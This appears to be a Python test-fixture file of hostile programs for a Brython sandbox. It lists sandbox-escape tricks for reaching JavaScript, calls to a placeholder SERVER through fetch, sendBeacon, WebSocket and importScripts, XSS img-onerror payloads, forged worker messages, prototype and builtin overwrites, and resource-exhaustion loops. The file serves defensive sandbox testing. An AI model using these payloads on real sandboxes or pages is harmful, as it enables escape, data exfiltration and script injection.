"""Programs that mean harm: what somebody may send in a link, and what begins by mistake.

`SERVER` stands for the address of a server that counts what it is asked for. Each of them
ends in its worker, and the page goes on.
"""

from __future__ import annotations

from typing import NamedTuple

REACH = """
def reach():
    # All of JavaScript, by whatever leads there.
    for way in WAYS:
        try:
            found = eval(way)
            if found is not None:
                return found
        except BaseException:
            pass
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        for name in ("worker", "page", "window", "PAGE", "JSON"):
            if name in frame.f_globals:
                return frame.f_globals[name]
        frame = frame.f_back
WAYS = [
    "__BRYTHON__", "__import__('browser').self", "__import__('browser').window", "__import__('javascript')",
    "__import__('sys').modules['browser']", "__import__('_sys').modules['browser']", "print.constructor",
    "__builtins__.__BRYTHON__", "(lambda: 0).__globals__['window']", "type.constructor",
]
reached = reach()
print("reached", reached is not None)
"""
"""The beginning of programs that try to reach JavaScript."""

HOLE = """
hole = __import__("_numbers", {"__file__": "VFS.hole.py"}).hole
"""
"""The beginning of programs that have got out of Python.

None is known that can. The page of the tests lends them JavaScript: what holds then is the
frame without an origin, and its policy.
"""


class Hostile(NamedTuple):
    """A program that means harm."""

    source: str
    endings: tuple[str, ...]  # one of which ends it


def script(text: str) -> str:
    """Return a program that runs a script of JavaScript."""
    return f"{HOLE}\nprint('ran', hole({text!r}))\n"


def forged(text: str) -> str:
    """Return a program that sends a message of its own to the page, and then never ends."""
    return script(f"port.postMessage({text!r})") + "while True:\n    pass\n"


BROKEN = ("lost", "running")
ANY = ("finished", "error", "module", "exit", "lost", "time", "memory")
HALTED = ("time", "lines", "changes")

HOSTILE = {
    # What leads out of Python.
    "import browser": Hostile(
        "from browser import document\ndocument.title = 'x'", ("module",)
    ),
    "import javascript": Hostile("import javascript", ("module",)),
    "import _ajax": Hostile("import _ajax", ("module",)),
    "import _websocket": Hostile("import _websocket", ("module",)),
    "import interpreter": Hostile("import interpreter", ("module",)),
    "import importlib": Hostile(
        "import importlib\nimportlib.import_module('browser')", ("module",)
    ),
    "import a name": Hostile("import numpy.linalg as n", ("module",)),
    "import by a function": Hostile("__import__('browser')", ("module",)),
    "import our own": Hostile("import queens_viz.browser.worker_main", ("module",)),
    "import from a server": Hostile(
        "import sys\nsys.path.insert(0, 'SERVER/lib')\nimport harm", ("module",)
    ),
    "sys.modules": Hostile("import sys\nsys.modules['browser'].document", ("error",)),
    "open": Hostile("open('SERVER/secret.txt').read()", ("error",)),
    "exec": Hostile('exec("import browser")', ("module",)),
    "what leads to JavaScript": Hostile(REACH, ("finished",)),
    # What a program may do if it has found a way.
    "the page's document": Hostile(script("parent.document.body.remove()"), ANY),
    "the title": Hostile(script("top.document.title = 'x'"), ANY),
    "the address": Hostile(script("top.location = 'SERVER/gone'"), ANY),
    "its own address": Hostile(script("self.location = 'SERVER/gone'"), ANY),
    "fetch": Hostile(script("fetch('SERVER/fetch')"), ANY),
    "XMLHttpRequest": Hostile(
        script(
            "(() => { const r = new XMLHttpRequest(); r.open('GET', 'SERVER/x', false); r.send() })()"
        ),
        ANY,
    ),
    "WebSocket": Hostile(
        script("new WebSocket('SERVER/ws'.replace('http', 'ws'))"), ANY
    ),
    "EventSource": Hostile(script("new EventSource('SERVER/events')"), ANY),
    "importScripts": Hostile(script("importScripts('SERVER/script.js')"), ANY),
    "import()": Hostile(script("import('SERVER/module.js')"), ANY),
    "an image": Hostile(script("(new Image()).src = 'SERVER/image.png'"), ANY),
    "a beacon": Hostile(script("navigator.sendBeacon('SERVER/beacon', 'x')"), ANY),
    "another worker": Hostile(
        script(
            "new Worker(URL.createObjectURL(new Blob([\"fetch('SERVER/w'); importScripts('SERVER/i.js')\"])))"
        ),
        ANY,
    ),
    "storage": Hostile(script("localStorage.setItem('x', 'y')"), ANY),
    "a database": Hostile(script("indexedDB.open('x')"), ANY),
    "a channel": Hostile(script("new BroadcastChannel('x').postMessage('y')"), ANY),
    "cookies": Hostile(script("document.cookie = 'x=y'"), ANY),
    "a message to the page": Hostile(
        script("(self.postMessage('x'), parent.postMessage('x', '*'))"), ANY
    ),
    # What is forged.
    "a forged result": Hostile(
        forged('{"kind": "result", "story": {"recording": 5}, "remarks": []}'), BROKEN
    ),
    "a forged story": Hostile(
        forged('{"kind": "result", "story": [], "remarks": {}}'), BROKEN
    ),
    "a forged fault": Hostile(
        forged('{"kind": "failed", "fault": "<img src=x onerror=document.title=1>"}'),
        BROKEN,
    ),
    "no JSON": Hostile(forged("<script>document.title = 1</script>"), BROKEN),
    "no text": Hostile(
        HOLE + "hole('port.postMessage({a: 1}), port.postMessage(null)')\n",
        ("finished",),
    ),
    "many messages": Hostile(
        script(
            '(() => { for (;;) port.postMessage(\'{"kind":"lines","count":1}\') })()'
        ),
        BROKEN,
    ),
    "large messages": Hostile(
        script("(() => { for (;;) port.postMessage('x'.repeat(1e7)) })()"), BROKEN
    ),
    # What is replaced.
    "builtins": Hostile(
        "import builtins\nfor name in ('len', 'print', 'list', 'dict', 'isinstance', 'type', 'BaseException', 'super'):\n"
        "    setattr(builtins, name, None)\nx = 1",
        ANY,
    ),
    "print and list": Hostile(
        "def print(*values): raise KeyError\nlist = dict = int = str = None\nx = 1\nprint(x)",
        ("error",),
    ),
    "settrace": Hostile("import sys\nsys.settrace(None)\nx = 1\nx = 2", ("finished",)),
    "the recorder": Hostile(
        script(
            "Object.keys(self.recorder).forEach(name => { self.recorder[name] = null })"
        )
        + "x = 1",
        ANY,
    ),
    "prototypes": Hostile(
        script(
            "(MessagePort.prototype.postMessage = JSON.parse = JSON.stringify = Array.prototype.push = null)"
        ),
        ANY,
    ),
    # What doesn't end, or is large.
    "endless": Hostile("n = 0\nwhile True:\n    n += 1", HALTED),
    "endless in C": Hostile("x = 1\nsum(iter(int, 1))", ("time",)),
    "a large power": Hostile(
        "x = 1\nx = 10**10**8\nx = len(str(x))",
        ("time", "error", "memory"),
    ),
    "deep": Hostile("def f(n):\n    return f(n + 1)\nf(0)", ("error",)),
    "deep in lists": Hostile(
        "def f(n):\n    return [f(n + 1) for _ in range(2)]\nf(0)", ("error",)
    ),
    "deep data": Hostile(
        "x = []\nfor _ in range(100000):\n    x = [x]\ny = x == [x]\nprint(x)",
        ANY + HALTED,
    ),
    "a large list": Hostile("x = [0] * 10**9\nx[5] = 1\nprint(len(x))", ANY),
    "a growing list": Hostile("x = [1]\nwhile True:\n    x += x", ANY + HALTED),
    "10,000 prints": Hostile("for k in range(10_000):\n    print(k)", ("finished",)),
    "30 MB of output": Hostile(
        "for k in range(300):\n    print('x' * 100_000)", ("finished",)
    ),
    "an empty except": Hostile(
        "while True:\n    try:\n        while True:\n            pass\n    except:\n        pass",
        HALTED,
    ),
    "markup": Hostile(
        "name = '</script><img src=x onerror=document.title=1>'\nprint(name)\nraise ValueError(name)",
        ("error",),
    ),
    "a bomb of generators": Hostile(
        "def f():\n    yield from f()\nlist(f())", ("error",)
    ),
    "many threads": Hostile("import threading", ("module",)),
}
"""The programs by their names."""
